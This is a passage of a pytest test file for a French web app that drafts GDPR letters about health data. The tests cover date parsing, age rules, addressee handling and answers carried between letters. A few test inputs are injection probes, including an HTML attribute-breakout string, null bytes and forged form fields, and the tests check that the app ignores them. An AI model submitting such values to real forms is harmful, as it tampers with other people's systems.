    assert fr("Date de naissance~: 03/03/1958") in letter_of(post(client, birth_date=typed).text)


@pytest.mark.parametrize(
    "typed", ["29200", "29 200", "29.200", "29-200", "2 9 2 0 0", "29\u00a0200"]
)
@pytest.mark.rule(13)
def test_a_postal_code_is_read_in_every_usual_shape(client: CheckingClient, typed: str) -> None:
    text = post(client, postal_code=typed, city="Brest").text
    assert "29200 Brest" in letter_of(text)
    assert carried(text)["postal_code"] == "29200"


@pytest.mark.parametrize("country", ["France", "FRANCE", " france ", ""])
def test_a_french_postal_code_has_five_digits(client: CheckingClient, country: str) -> None:
    assert post(client, postal_code="2920", country=country).status_code == 422
    assert post(client, postal_code="29200", country=country).status_code == 200


def test_the_town_stands_before_the_date(client: CheckingClient) -> None:
    place = parse(post(client, city="Brest").text).select_one(".place-and-date")
    assert text_of(place) == fr("Brest, le 21~novembre 2026")
    place = parse(post(client).text).select_one(".place-and-date")
    assert text_of(place) == fr("Le 21~novembre 2026")


def test_spaces_and_invisible_signs_around_an_answer_are_dropped(client: CheckingClient) -> None:
    text = post(client, given_name="\ufeff  Ca\u200bmi\u202elle \u00a0 Zoé\t").text
    assert letter_of(text)[0] == "Camille Zoé Durand"
    assert carried(text)["given_name"] == "Camille Zoé"


# For whom

NEED_GIVEN = "Indiquez le prénom de la personne que vous représentez, par exemple Léo."
NEED_FAMILY = "Indiquez le nom de la personne que vous représentez, par exemple Durand."
NEED_MEASURE = "Indiquez la mesure de protection, par exemple tutelle."
TOO_OLD = fr(
    "Avec cette date, cette personne a 15~ans ou plus. Sur ce site, elle signe elle-même~: "
    "corrigez la date, ou écrivez la lettre à son nom."
)
NOT_15_TO_17 = fr(
    "Avec cette date, vous n’avez pas de 15 à 17~ans. Corrigez-la, ou choisissez une autre "
    "réponse à «~Pour qui écrivez-vous~»."
)
# A sentence of the letter that only one answer gives.
SAID = {
    "child": "l’autorité parentale sur Léo Martin",
    "minor": "entre 15 et 17 ans",
    "protected": "Je représente Léo Martin",
}


@pytest.mark.parametrize("who", WHO)
@pytest.mark.parametrize("slug", SLUGS)
def test_the_right_person_signs_and_is_named(client: CheckingClient, slug: str, who: str) -> None:
    """Whoever writes signs; a represented person is named above; no one else's words are there."""
    answers = everything("protected") | {"who": who, "birth_date": "", "represented_birth_date": ""}
    page = parse(post(client, slug=slug, **answers).text)
    article = page.select_one("article#letter")
    assert article is not None
    assert text_of(article.select_one(".signature")) == "Camille Durand"
    lines = [text_of(line) for line in article.select(".sender > *")]
    assert lines[0] == "Camille Durand"
    represents = who in {"child", "protected"}
    assert (fr("Pour~: Léo Martin") in lines) == represents
    whole = text_of(article).replace("\u00a0", " ")
    assert ("Martin" in whole) == represents
    assert ("tutelle" in whole) == (who == "protected")
    for other, sentence in SAID.items():
        assert (sentence in whole) == (other == who), other


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize("who", ["child", "protected"])
def test_who_is_represented_must_be_named(client: CheckingClient, slug: str, who: str) -> None:
    wanted = {"represented_given_name": NEED_GIVEN, "represented_family_name": NEED_FAMILY}
    wanted |= {"measure": NEED_MEASURE} if who == "protected" else {}
    assert check_errors(post(client, slug=slug, **SENT, who=who)) == wanted


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize("who", ["self", "minor"])
def test_who_writes_for_themselves_names_nobody_else(
    client: CheckingClient, slug: str, who: str
) -> None:
    assert post(client, slug=slug, **SENT, who=who).status_code == 200


def check_age(client: CheckingClient, who: str, name: str, born: str, sentence: str | None) -> None:
    for slug in SLUGS:
        answers = {**PERSON, **SENT, **WHOSE[who], name: born}
        response = client.post(address_of(slug), data=answers)
        if sentence and name in PRINTED[slug]:
            assert check_errors(response) == {name: sentence}
        else:
            assert response.status_code == 200  # right, or not asked by this letter


@pytest.mark.parametrize(
    ("born", "sentence"),
    [
        ("", None),
        ("21/11/2026", None),  # born on the day itself
        ("22/11/2011", None),
        ("2011-11-22", None),
        ("21/11/2011", TOO_OLD),  # fifteen on the very day
        ("03/03/1958", TOO_OLD),
    ],
)
def test_a_child_has_not_turned_fifteen(
    client: CheckingClient, born: str, sentence: str | None
) -> None:
    check_age(client, "child", "represented_birth_date", born, sentence)


@pytest.mark.parametrize("born", ["21/11/2011", "03/03/1958", "22/11/2011"])
def test_an_adult_under_protection_may_have_any_age(client: CheckingClient, born: str) -> None:
    check_age(client, "protected", "represented_birth_date", born, None)


@pytest.mark.parametrize(
    ("born", "sentence"),
    [
        ("", None),
        ("21/11/2011", None),  # fifteen on the very day
        ("22/11/2008", None),  # eighteen on the next
        ("22/11/2011", NOT_15_TO_17),
        ("21/11/2008", NOT_15_TO_17),
        ("03/03/1958", NOT_15_TO_17),
        ("21/11/2026", NOT_15_TO_17),
    ],
)
def test_a_minor_who_signs_is_fifteen_to_seventeen(
    client: CheckingClient, born: str, sentence: str | None
) -> None:
    check_age(client, "minor", "birth_date", born, sentence)


@pytest.mark.parametrize(("today", "status"), [(date(2027, 2, 27), 200), (date(2027, 2, 28), 422)])
def test_born_on_a_29_february_one_turns_fifteen_on_the_28(
    client: CheckingClient, monkeypatch: pytest.MonkeyPatch, today: date, status: int
) -> None:
    monkeypatch.setattr("letters.web.routes.today", lambda: today)
    answers = {**WHOSE["child"], "represented_birth_date": "29/02/2012"}
    assert post(client, **answers).status_code == status


@pytest.mark.parametrize("who", ["child", "protected"])
def test_the_birth_date_is_that_of_the_person_represented(client: CheckingClient, who: str) -> None:
    answers = {**WHOSE[who], "represented_birth_date": "03/03/2015", "birth_date": "04/04/1980"}
    for slug in SLUGS:
        letter = letter_of(post(client, slug=slug, **SENT, **answers).text)
        printed = fr("Sa date de naissance~: 03/03/2015") in letter
        assert printed == ("represented_birth_date" in PRINTED[slug])
        assert "1980" not in "".join(letter)


# To whom


@pytest.mark.parametrize("code", [body.code for body in load_recipients() if body.has_address])
def test_each_known_address_is_shown_to_be_corrected_and_printed_unchanged(
    app: Flask, recipients: Recipients, code: str
) -> None:
    client = app.test_client()  # the pages are checked elsewhere; here are a hundred of them
    body = recipients.find(code)
    assert body is not None
    edited = client.post(FORM, data={**PERSON, "recipient": code, "output": "edit"}).text
    area = re.search(r'<textarea[^>]*id="recipient_lines"[^>]*>\r?\n([^<]*)</textarea>', edited)
    assert area is not None
    lines = area[1].replace("\r\n", "\n").replace("&#39;", "'").split("\n")
    assert tuple(lines) == body.lines
    sent = {**PERSON, "recipient": code, "recipient_lines": "\r\n".join(lines)}
    printed = client.post(FORM, data={**sent, "output": "pdf" if code == "01751" else "preview"})
    unedited = client.post(FORM, data={**PERSON, "recipient": code})
    assert printed.status_code == 200
    if code != "01751":
        assert printed.text.partition("</article>")[0] == unedited.text.partition("</article>")[0]


@pytest.mark.parametrize("code", ["01751", "01624", "cnmss"])
def test_a_known_address_is_shown_with_its_age_to_be_checked(
    client: CheckingClient, recipients: Recipients, code: str
) -> None:
    text = text_of(parse(post(client, "edit", recipient=code).text).main)
    body = recipients.find(code)
    assert body is not None
    assert body.observed_on is not None
    assert f"date du {long_date(body.observed_on)}. Vérifiez-la sur ameli.fr" in text


def test_another_body_chosen_after_the_address_was_shown_gets_its_own(
    client: CheckingClient, recipients: Recipients
) -> None:
    lines = shown(post(client, "edit").text)["recipient_lines"]
    text = post(client, recipient="01291", recipient_lines=lines).text
    brest = recipients.find("01291")
    assert brest is not None
    assert recipient_of(text) == list(brest.lines)


def test_another_body_chosen_then_shown_again_shows_its_own(
    client: CheckingClient, recipients: Recipients
) -> None:
    lines = shown(post(client, "edit").text)["recipient_lines"]
    again = shown(post(client, "edit", recipient="01291", recipient_lines=lines).text)
    brest = recipients.find("01291")
    assert brest is not None
    assert again["recipient_lines"].split("\n") == list(brest.lines)


def test_a_corrected_address_goes_with_the_fund_that_it_was_typed_for(
    client: CheckingClient, recipients: Recipients
) -> None:
    typed = "CPAM de l’Exemple\r\n12 rue Neuve\r\n75001 PARIS"
    brest = recipients.find("01291")
    assert brest is not None
    page = post(client, "edit", recipient_lines=typed).text
    other = client.post(FORM, data=posted(page, recipient="01291")).text
    assert recipient_of(other) == list(brest.lines)
    changed = posted(page, recipient="01291", recipient_lines=f"{typed} CEDEX")
    assert recipient_of(client.post(FORM, data=changed).text) == f"{typed} CEDEX".split("\r\n")
    same = client.post(FORM, data=posted(page)).text
    assert recipient_of(same) == typed.split("\r\n")


def test_a_corrected_address_wins(client: CheckingClient, recipients: Recipients) -> None:
    lines = shown(post(client, "edit").text)["recipient_lines"].split("\n")
    corrected = [*lines[:-1], "12 rue Neuve", lines[-1]]
    for code in ("01751", "01291", OTHER):
        text = post(client, recipient=code, recipient_lines="\r\n".join(corrected)).text
        assert recipient_of(text) == corrected


def test_an_address_typed_for_another_body_is_printed(client: CheckingClient) -> None:
    typed = "MSA d’Armorique\r\n\r\n 3 rue Hervé de Guébriant \r\n29412 Landerneau Cedex"
    text = post(client, recipient=OTHER, recipient_lines=typed).text
    wanted = ["MSA d’Armorique", "3 rue Hervé de Guébriant", "29412 Landerneau Cedex"]
    assert recipient_of(text) == wanted


NEEDED_LINES = fr(
    "Écrivez le nom et l’adresse, une ligne sous l’autre, par exemple~: MSA de l’Exemple / 1 rue "
    "de l’Exemple / 29200 Brest."
)


@pytest.mark.parametrize("code", [OTHER, MAYOTTE])
@pytest.mark.parametrize("typed", ["", " \r\n \u200b\r\n"])
def test_a_body_without_address_needs_lines(client: CheckingClient, code: str, typed: str) -> None:
    response = post(client, recipient=code, recipient_lines=typed)
    assert check_errors(response) == {"recipient_lines": NEEDED_LINES}


def test_a_body_without_address_gets_the_lines_typed(client: CheckingClient) -> None:
    text = post(client, recipient=MAYOTTE, recipient_lines="CSSM\r\n97600 Mamoudzou").text
    assert recipient_of(text) == ["CSSM", "97600 Mamoudzou"]


def test_a_body_without_address_chosen_after_a_known_address_was_shown_needs_lines(
    client: CheckingClient,
) -> None:
    lines = shown(post(client, "edit").text)["recipient_lines"]
    response = post(client, recipient=MAYOTTE, recipient_lines=lines)
    assert check_errors(response) == {"recipient_lines": NEEDED_LINES}


def test_a_body_without_address_says_so_in_the_form(client: CheckingClient) -> None:
    page = parse(post(client, "edit", recipient=MAYOTTE).text)
    [told] = page.select("#adresse-connue [data-state]:not([hidden])")
    sentence = "Nous ne connaissons pas l’adresse de cet organisme. Écrivez-la ci-dessous."
    assert text_of(told) == sentence


@pytest.mark.parametrize("code", [MAYOTTE, OTHER])
def test_the_box_for_an_address_that_is_needed_is_not_folded_away(
    client: CheckingClient, code: str
) -> None:
    page = parse(post(client, "edit", recipient=code).text)
    assert page.select("details:not([open]) #recipient_lines") == []


@pytest.mark.parametrize("code", ["", "99999", "1751", "01751 ", "OTHER", "01751\x00", "<b>"])
def test_an_unknown_body_is_refused_and_never_shown_again(
    client: CheckingClient, code: str
) -> None:
    response = post(client, recipient=code, recipient_lines=ADDRESS)
    assert check_errors(response) == {
        "recipient": fr("Choisissez votre caisse dans la liste, ou «~Autre organisme~».")
    }
    assert shown(response.text)["recipient"] == ""


# The CNIL, the platform, a carer

FIXED = {"cnil_lines": CNIL, "plateforme_lines": PLATFORM}
# Every letter that goes to a body with one address, the field for it, and the address.
TO_FIXED = [
    (PLATEFORME, {}, "plateforme_lines"),
    (INFORMATION, {}, "cnil_lines"),
    (PLAINTE, {}, "cnil_lines"),
    (RELANCE, {"first_letter": PLATEFORME}, "plateforme_lines"),
]


def named(*lines: str) -> str:
    return "\r\n".join(lines)


@pytest.mark.parametrize(("slug", "answers", "name"), TO_FIXED)
def test_a_known_address_is_printed_and_its_age_told(
    client: CheckingClient, slug: str, answers: dict[str, str], name: str
) -> None:
    result = post(client, slug=slug, **SENT, **answers)
    assert recipient_of(result.text) == list(FIXED[name])
    told = f"Celle de votre lettre date du {long_date(date(2026, 11, 21))}"
    assert told in text_of(parse(result.text).main)
    edited = post(client, "edit", slug, **SENT, **answers).text
    assert shown(edited)[name].split("\n") == list(FIXED[name])
    notes = [text_of(note) for note in parse(edited).select(f"fieldset:has(#{name}) > p")]
    told = f"L’adresse connue a été notée le {long_date(date(2026, 11, 21))}."
    assert any(note.startswith(told) for note in notes)


@pytest.mark.parametrize(("slug", "answers", "name"), TO_FIXED)
def test_a_known_address_can_be_corrected(
    client: CheckingClient, slug: str, answers: dict[str, str], name: str
) -> None:
    lines = ["Autre nom", "12 rue Neuve", "75001 PARIS"]
    typed = {name: named(*lines)}
    result = post(client, slug=slug, **SENT, **answers, **typed)
    assert recipient_of(result.text) == lines
    assert "Celle de votre lettre date du" not in text_of(parse(result.text).main)
    page = parse(post(client, "edit", slug, **SENT, **answers, **typed).text)
    assert page.select(f"details:not([open]) #{name}") == []


@pytest.mark.parametrize(
    ("slug", "answers", "name", "first"),
    [
        (INFORMATION, {}, "cnil_lines", "CNIL"),
        (PLAINTE, {}, "cnil_lines", "cnil, service des plaintes"),
        (PLAINTE, {}, "cnil_lines", "COMMISSION NATIONALE INFORMATIQUE"),
        (PLAINTE, {"first_letter": PLATEFORME}, "cnil_lines", "Cnil"),
        (PLAINTE, {"first_letter": PLATEFORME}, "plateforme_lines", "PDS"),
        (PLATEFORME, {}, "plateforme_lines", "Health Data Hub"),
        (PLATEFORME, {}, "plateforme_lines", "Plateforme des données de santé"),
        (RELANCE, {"first_letter": PLATEFORME}, "plateforme_lines", "GIP Plateforme"),
    ],
)
def test_an_address_that_names_its_body_may_come_in_the_field_of_the_other_letters(
    client: CheckingClient, slug: str, answers: dict[str, str], name: str, first: str
) -> None:
    """It is then treated in every way as if it had been typed in the field of its own."""
    lines = [first, "12 rue Neuve", "75001 PARIS"]
    for output in OUTPUTS[:4]:
        there = post(client, output, slug, **SENT, **answers, recipient_lines=named(*lines))
        here = post(client, output, slug, **SENT, **answers, **{name: named(*lines)})
        assert there.status_code == here.status_code == 200
        assert there.data == here.data
    edited = shown(
        post(client, "edit", slug, **SENT, **answers, recipient_lines=named(*lines)).text
    )
    assert edited[name].split("\n") == lines
    wrong = post(client, slug=slug, **SENT, **answers, recipient_lines=named(*lines, "字"))
    assert check_errors(wrong) == {name: fr(SIGN.format("«~字~»"))}


@pytest.mark.parametrize("slug", [INFORMATION, PLAINTE])
@pytest.mark.parametrize("named_there", ["", "CNIL\r\n1 rue Vieille\r\n75001 PARIS"])
def test_a_body_s_own_field_wins_and_the_fund_keeps_its_address(
    client: CheckingClient, recipients: Recipients, slug: str, named_there: str
) -> None:
    answers = {"cnil_lines": named("CNIL", "12 rue Neuve"), "recipient_lines": named_there}
    text = post(client, slug=slug, **SENT, **answers).text
    assert recipient_of(text) == ["CNIL", "12 rue Neuve"]
    fund = recipients.find(PERSON["recipient"])
    assert fund is not None
    assert fund.name in " ".join(letter_of(text))
    edited = shown(post(client, "edit", slug, **SENT, **answers).text)
    assert edited["recipient_lines"].split("\n") == list(fund.lines)


@pytest.mark.parametrize("slug", [INFORMATION, PLAINTE])
@pytest.mark.parametrize(
    ("first", "lines"), [(SANTE, FUND), (SOIGNANT, CARER), (SOIGNANT, "Clinique Cnilienne\nBrest")]
)
def test_the_body_that_was_written_to_is_named_and_is_never_the_cnil(
    client: CheckingClient, slug: str, first: str, lines: str
) -> None:
    typed = {"recipient": OTHER, "recipient_lines": lines.replace("\n", "\r\n")}
    text = post(client, slug=slug, **SENT, first_letter=first, **typed).text
    assert recipient_of(text) == list(CNIL)
    name, *places = lines.split("\n")
    assert f"l’organisme suivant\u00a0: {name}." in " ".join(letter_of(text))
    if slug == PLAINTE:
        assert fr(f"Ses coordonnées~: {', '.join(places)}.") in " ".join(letter_of(text))


@pytest.mark.parametrize("lines", [FUND, CARER])
def test_no_address_of_another_becomes_the_platform_s(client: CheckingClient, lines: str) -> None:
    typed = {"recipient": OTHER, "recipient_lines": lines.replace("\n", "\r\n")}
    for slug, answers in ((PLATEFORME, {}), (RELANCE, {"first_letter": PLATEFORME})):
        text = post(client, slug=slug, **SENT, **answers, **typed).text
        assert recipient_of(text) == list(PLATFORM)
        assert lines.split("\n")[0] not in " ".join(letter_of(text))


def test_a_complaint_names_whoever_got_the_first_letter(
    client: CheckingClient, catalogue: Catalogue
) -> None:
    for first, name in ((SANTE, "CPAM"), (PLATEFORME, PLATFORM[0]), (SOIGNANT, "Cabinet")):
        for slug in (INFORMATION, PLAINTE):
            text = " ".join(letter_of(post(client, slug=slug, **answers_of(first=first)).text))
            assert f"l’organisme suivant\u00a0: {name}" in text
            assert catalogue.wordings[first].subject in text
            assert catalogue.wordings[first].basis in text


@pytest.mark.parametrize("slug", SPEAKING)
@pytest.mark.parametrize("typed", ["", " \r\n "])
def test_a_letter_about_a_carer_needs_the_carer_s_name(
    client: CheckingClient, slug: str, typed: str
) -> None:
    answers = {**SENT, "first_letter": SOIGNANT, "recipient_lines": typed}
    assert check_errors(post(client, slug=slug, **answers)) == {"recipient_lines": NEEDED_LINES}


@pytest.mark.parametrize("slug", [INFORMATION, PLAINTE])
@pytest.mark.parametrize("code", [OTHER, MAYOTTE])
def test_the_cnil_is_not_the_body_that_was_written_to(
    client: CheckingClient, slug: str, code: str
) -> None:
    answers = {**SENT, "recipient": code, "recipient_lines": named("CNIL", "75334 PARIS")}
    response = post(client, slug=slug, **answers)
    assert check_errors(response) == {"recipient_lines": NEEDED_LINES}
    assert shown(response.text)["cnil_lines"] == "CNIL\n75334 PARIS"


def test_a_letter_to_a_carer_may_be_addressed_by_hand(client: CheckingClient) -> None:
    page = parse(post(client, slug=SOIGNANT).text)
    assert recipient_of(post(client, slug=SOIGNANT).text) == []
    assert len(page.select("article#letter .recipient .dots")) == 5
    text = post(client, slug=SOIGNANT, recipient_lines=CARER.replace("\n", "\r\n")).text
    assert recipient_of(text) == CARER.split("\n")
    assert "Celle de votre lettre date du" not in text


@pytest.mark.parametrize("slug", [SOIGNANT, RELANCE])
def test_a_fund_s_known_address_is_never_a_carer_s(
    client: CheckingClient, recipients: Recipients, slug: str
) -> None:
    """It stays in its box when the earlier letter is changed above it."""
    fund = recipients.find("01291")
    assert fund is not None
    answers = {**SENT, "first_letter": SOIGNANT, "recipient_lines": named(*fund.lines)}
    response = post(client, slug=slug, **answers)
    if slug == SOIGNANT:
        assert recipient_of(response.text) == []
    else:
        assert check_errors(response) == {"recipient_lines": NEEDED_LINES}


def test_no_fund_is_taken_for_a_body_that_everybody_writes_to(recipients: Recipients) -> None:
    for addressee in load_addressees():
        assert addressee.lines
        assert addressee.is_named_by(addressee.name)
        assert [body.name for body in recipients if addressee.is_named_by(body.name)] == []
        assert not addressee.is_named_by(FUND)
        assert not addressee.is_named_by(CARER)


# What one letter hands on to the next


def go(client: CheckingClient, text: str, slug: str, output: str = "edit") -> TestResponse:
    """Press « Écrire cette lettre » on a result page."""
    return client.post(address_of(slug), data=posted(text, output=output))


@pytest.mark.parametrize("who", WHO)
@pytest.mark.parametrize("slug", SLUGS)
def test_one_set_of_answers_can_be_posted_to_every_letter(
    client: CheckingClient, slug: str, who: str
) -> None:
    for first in OPPOSITIONS:
        answers = everything(who, first, carried_lines="字", shown_lines="字")
        assert post(client, slug=slug, **answers).status_code == 200


@pytest.mark.parametrize(("slug", "who", "first"), STATES)
def test_what_a_letter_does_not_use_changes_nothing_and_is_carried_on(
    app: Flask, slug: str, who: str, first: str
) -> None:
    client = app.test_client()
    for outcome in OUTCOMES if slug in LATER else ("silence",):
        used = asked(slug, who, first, outcome)
        every = everything(who, first, outcome=outcome)
        whole = {name: every[name] for name in used}
        unused = FIELDS - used - {"options", "shown_lines"}
        wrong = {name: f"字 {name} " * 40 for name in unused}
        right = client.post(address_of(slug), data=whole)
        response = client.post(address_of(slug), data={**whole, **wrong})
        assert response.status_code == right.status_code == 200
        assert letter_of(response.text) == letter_of(right.text)
        for name in ("message", "message-short", "subject"):
            assert area_of(response.text, name) == area_of(right.text, name)
        values = posted(response.text)
        forgotten = HISTORY if slug in OPPOSITIONS else set()  # it is told of another letter
        for name in unused - {*CHOICES, *LISTS} - forgotten:
            assert values[name] == wrong[name].strip()
        assert not forgotten & values.keys()
        for name in unused & {*CHOICES, "recipient"}:  # no answer of the form at all
            assert values.get(name) in {None, "silence" if name == "outcome" else None}


@pytest.mark.parametrize("name", ["channel", "outcome"])
@pytest.mark.parametrize("value", ["child", "represented", "sent_on", "penal"])
def test_an_answer_that_is_not_asked_cannot_stand_for_another_condition(
    client: CheckingClient, name: str, value: str
) -> None:
    expected = letter_of(post(client, slug=INFORMATION).text)
    assert letter_of(post(client, slug=INFORMATION, **{name: value}).text) == expected


@pytest.mark.parametrize("who", ["self", "protected"])
@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.rule(16)
def test_nothing_is_typed_twice_from_one_letter_to_the_others(
    app: Flask, slug: str, who: str
) -> None:
    client = app.test_client()
    first = slug if slug in OPPOSITIONS else SANTE
    answers = everything(who, first)
    result = client.post(address_of(slug), data=answers).text
    buttons = main_form(result).select("button[name][formaction]")
    others = [other for other in SLUGS if other != slug]
    assert [str(button["formaction"]) for button in buttons] == list(map(address_of, others))
    for other in others:
        edited = shown(client.post(address_of(other), data=posted(result, output="edit")).text)
        for name in asked(other, who, first, "partial") - {"recipient_lines"}:
            assert edited[name] == answers[name].replace("\r\n", "\n"), (other, name)
        ready = client.post(address_of(other), data=posted(result, output="preview"))
        assert ready.status_code == 200, other
        assert heading_of(parse(ready.text)) == "Votre lettre est prête"


@pytest.mark.parametrize("slug", OPPOSITIONS)
def test_a_letter_of_opposition_hands_on_its_name_and_the_day(
    client: CheckingClient, slug: str
) -> None:
    answers = answers_of(first=slug)
    del answers["sent_on"], answers["first_letter"]
    result = post(client, slug=slug, **answers).text
    for later in SPEAKING:
        edited = shown(go(client, result, later).text)
        assert edited["first_letter"] == slug
        assert edited["sent_on"] == "21/11/2026"
    sent = posted(result, sent_on="2026-10-01", output="edit")
    assert shown(client.post(address_of(RELANCE), data=sent).text)["sent_on"] == "2026-10-01"


@pytest.mark.parametrize("slug", OPPOSITIONS)
def test_what_came_of_a_letter_is_not_told_of_a_new_one(client: CheckingClient, slug: str) -> None:
    other = OPPOSITIONS[OPPOSITIONS.index(slug) - 1]
    at_complaint = post(client, slug=PLAINTE, **everything("self", other)).text
    at_objection = go(client, at_complaint, slug, "preview").text
    values = posted(at_objection)
    assert not {*HISTORY, "channel"} & values.keys()
    assert values["sent_on"] == "21/11/2026"
    again = shown(go(client, at_objection, PLAINTE).text)
    assert (again["first_letter"], again["outcome"]) == (slug, "silence")
    assert {again[name] for name in HISTORY} == {""}


@pytest.mark.parametrize("slug", OPPOSITIONS)
def test_what_came_of_a_letter_comes_back_with_it(client: CheckingClient, slug: str) -> None:
    answers = everything("self", slug)
    at_complaint = post(client, slug=PLAINTE, **answers).text
    back = go(client, at_complaint, slug, "preview").text
    again = shown(go(client, back, PLAINTE).text)
    for name in {*HISTORY, "channel", "outcome", "sent_on"}:
        assert again[name] == answers[name].replace("\r\n", "\n")


def test_a_follow_up_hands_its_day_to_the_complaint_and_nothing_else_does(
    client: CheckingClient,
) -> None:
    for slug in SLUGS:
        result = post(client, slug=slug, **SENT).text
        if slug != PLAINTE:
            edited = shown(go(client, result, PLAINTE).text)
            assert edited["followed_up_on"] == ("21/11/2026" if slug == RELANCE else "")


def test_a_letter_of_information_without_a_day_stays_without_one(client: CheckingClient) -> None:
    result = post(client, slug=INFORMATION).text
    assert shown(go(client, result, INFORMATION).text)["sent_on"] == ""
    direct = post(client, "text", INFORMATION)
    assert go(client, result, INFORMATION, "text").data == direct.data
    assert "Ce même jour" in direct.data.decode()


def lines_at(client: CheckingClient, text: str, slug: str) -> str:
    value: str = shown(go(client, text, slug).text)["recipient_lines"]
    return value


def test_the_addresses_of_the_fund_and_the_carer_are_exchanged_on_the_way(
    client: CheckingClient,
) -> None:
    """Both live in `recipient_lines`; each letter gets the one that it means."""
    fund = {"recipient": OTHER, "recipient_lines": FUND.replace("\n", "\r\n")}
    at_fund = post(client, slug=SANTE, **fund).text
    edited = go(client, at_fund, SOIGNANT).text
    assert shown(edited)["recipient_lines"] == ""
    filled = posted(edited, recipient_lines=CARER.replace("\n", "\r\n"))
    at_carer = client.post(address_of(SOIGNANT), data=filled).text
    assert recipient_of(at_carer) == CARER.split("\n")
    assert lines_at(client, at_carer, SANTE) == FUND
    assert lines_at(client, at_carer, SOIGNANT) == CARER
    assert lines_at(client, at_carer, PLAINTE) == CARER  # about the letter to the carer
    assert lines_at(client, at_fund, PLAINTE) == FUND
    at_platform = go(client, at_carer, PLATEFORME, "preview").text
    assert recipient_of(at_platform) == list(PLATFORM)
    assert lines_at(client, at_platform, SANTE) == FUND
    assert lines_at(client, at_platform, SOIGNANT) == CARER
    at_cnil = go(client, at_platform, INFORMATION, "preview").text
    assert lines_at(client, at_cnil, SOIGNANT) == CARER
    assert recipient_of(go(client, at_cnil, SANTE, "preview").text) == FUND.split("\n")


def test_the_known_address_of_a_fund_is_not_lost_on_the_way_through_a_carer(
    client: CheckingClient, recipients: Recipients
) -> None:
    fund = recipients.find("01751")
    assert fund is not None
    result = post(client, slug=SANTE).text
    at_carer = go(client, result, SOIGNANT, "preview").text
    assert recipient_of(at_carer) == []
    assert recipient_of(go(client, at_carer, SANTE, "preview").text) == list(fund.lines)


# Options


def test_what_is_ticked_stays_ticked_and_no_more(client: CheckingClient) -> None:
    for options in ([], ["acces"], ["cnil", "deces"], list(OPTIONS)):
        edited = post(client, "edit", options=options)
        wrong = post(client, "preview", options=options, given_name="")
        result = post(client, "preview", options=options)
        assert shown(edited.text)["options"] == shown(wrong.text)["options"] == options
        assert posted(result.text).getlist("options") == options


@pytest.mark.parametrize("slug", SLUGS)
def test_none_ticked_stays_none_even_when_nothing_else_is_posted(
    client: CheckingClient, slug: str
) -> None:
    sent = {"content_type": "application/x-www-form-urlencoded"}
    for data in ("", "output=preview", "recipient=01751"):
        assert shown(client.post(address_of(slug), data=data, **sent).text)["options"] == []


def ticked_at(client: CheckingClient, text: str, slug: str) -> set[str]:
    return set(shown(go(client, text, slug).text)["options"])


@pytest.mark.parametrize("slug", SLUGS)
def test_a_letter_that_comes_after_another_one_has_its_own_defaults_ticked(
    client: CheckingClient, slug: str
) -> None:
    result = post(client, slug=slug, **SENT, options=[*DEFAULTS_OF[slug]]).text
    for other in SLUGS:
        assert ticked_at(client, result, other) == set(DEFAULTS_OF[other]), other


def test_an_option_once_unticked_is_not_ticked_again_by_any_letter(client: CheckingClient) -> None:
    result = post(client, slug=SANTE).text  # hebergement and cnil were there, and left out
    for slug in (PLATEFORME, SOIGNANT, INFORMATION, RELANCE, PLATEFORME, SANTE):
        edited = go(client, result, slug).text
        assert shown(edited)["options"] == []
        sent = posted(edited, output="preview", **SENT)
        result = client.post(address_of(slug), data=sent).text
    assert posted(result).getlist("options") == []


def test_an_option_ticked_in_one_letter_is_ticked_in_all_that_have_it(
    client: CheckingClient,
) -> None:
    result = post(client, slug=SANTE, options=["deces", "cnil"]).text
    assert ticked_at(client, result, SOIGNANT) == {"deces"}
    assert ticked_at(client, result, PLATEFORME) == {"deces"}
    assert ticked_at(client, result, SANTE) == {"deces", "cnil"}
    edited = go(client, result, SOIGNANT).text
    sent = posted(edited)
    sent.setlist("options", [*sent.getlist("options"), "logiciel"])
    result = client.post(address_of(SOIGNANT), data=sent).text
    for between in (INFORMATION, PLATEFORME):
        result = go(client, result, between, "preview").text
    assert ticked_at(client, result, SOIGNANT) == {"deces", "logiciel"}
    assert ticked_at(client, result, SANTE) == {"deces", "cnil"}


def test_only_the_options_that_our_letters_have_are_said_to_be_shown(
    client: CheckingClient,
) -> None:
    result = post(client, shown=["hebergement", "racine", "<b>", NIR])
    assert set(posted(result.text).getlist("shown")) == set(OPTIONS)
    assert "racine" not in result.text
    assert not has_number(result)
    assert ticked_at(client, post(client, slug=SOIGNANT, shown="x").text, SANTE) == set(DEFAULTS)


@pytest.mark.parametrize("output", OUTPUTS)
@pytest.mark.parametrize("slug", SLUGS)
def test_unknown_options_and_fields_are_ignored(
    client: CheckingClient, slug: str, output: str
) -> None:
    known = [*OPTIONS_OF[slug][:1]]
    answers = {**PERSON, **SENT, "output": output, "options": known}
    more = {"options": [*known, "racine", "<b>", "reason"], "reason2": "x", "language": "en"}
    more |= {"nir": "185057512345678", "csrf_token": "x", "slug": "autre", "today": "1999-01-01"}
    expected = client.post(address_of(slug), data=answers)
    response = client.post(address_of(slug), data={**answers, **more})
    assert response.status_code == 200
    assert response.data == expected.data


@pytest.mark.parametrize("option", ["racine", '"><b>x</b>', "1 85 05 75 123 456 78", "\x00\u202e"])
def test_unknown_options_are_not_carried_along_in_hidden_fields(
    client: CheckingClient, option: str
) -> None:
    expected = post(client, options=["cnil"])
    assert post(client, options=["cnil", option]).data == expected.data


def test_options_posted_twice_count_once(client: CheckingClient) -> None:
    once, twice = (post(client, "text", options=["acces"] * number) for number in (1, 2))
    assert once.data == twice.data


# The letter that was sent before, and what came of it

NO_SENDING = "Indiquez une date entre 2018 et aujourd’hui, par exemple 03/03/2026."
NEED_SENDING = "Indiquez le jour où vous avez envoyé la lettre, par exemple 03/03/2026."
NOT_BETWEEN = "Indiquez une date entre le jour de l’envoi et aujourd’hui."


def wait_until(day: str) -> str:
    return fr(
        f"Attendez le {day}~: l’organisme a un mois pour répondre (RGPD, article~12). "
        "S’il a déjà refusé ou répondu en partie, choisissez cette réponse."
    )


@pytest.mark.parametrize(
    "typed", ["01/10/2026", "2026-10-01", "1/10/2026", "1.10.2026", " 2026 / 10 / 1 "]
)
@pytest.mark.parametrize("slug", SPEAKING)
def test_the_day_of_sending_is_read_in_every_usual_shape(
    client: CheckingClient, slug: str, typed: str
) -> None:
    response = post(client, slug=slug, sent_on=typed)
    assert response.status_code == 200
    assert fr("1er~octobre 2026") in " ".join(letter_of(response.text))


@pytest.mark.parametrize(
